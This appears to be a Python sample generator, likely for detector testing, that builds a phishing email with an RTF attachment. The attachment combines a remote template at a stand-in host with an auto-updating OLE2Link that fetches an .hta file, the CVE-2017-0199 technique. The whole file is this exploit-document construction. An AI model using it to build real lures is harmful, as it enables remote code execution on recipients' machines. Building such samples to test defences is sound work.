"""A letter whose template lies on a server, and whose object is a link to a page there.
Scenario: Microsoft on CVE-2017-0199; Proofpoint on templates in RTF (December 2021)."""
import struct
from kit import *

LINK = bytes.fromhex("0003000000000000c000000000000046")
URL = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")


def make():
    where = "https://files.example.net/order.hta".encode("utf-16-le") + b"\0\0"
    moniker = URL + struct.pack("<I", len(where)) + where
    part = (Ole(clsid=LINK).add("\1Ole", struct.pack("<IIIIIII", 0x02000001, 9, 1, 0, 0, 0, len(moniker)) + moniker).bytes())
    doc = (Rtf().template("http://files.example.net/a.dot").text("Order")
           .object("OLE2Link", part, updates=True)
           .field("HYPERLINK \"https://www.example.com/help\"", "help").bytes())
    return (Mail("Order", "sales@example.net", date="Thu, 9 Dec 2021 10:20:00 +0900")
            .text("Order attached.\n").attach("order.rtf", doc, "application/rtf").bytes())
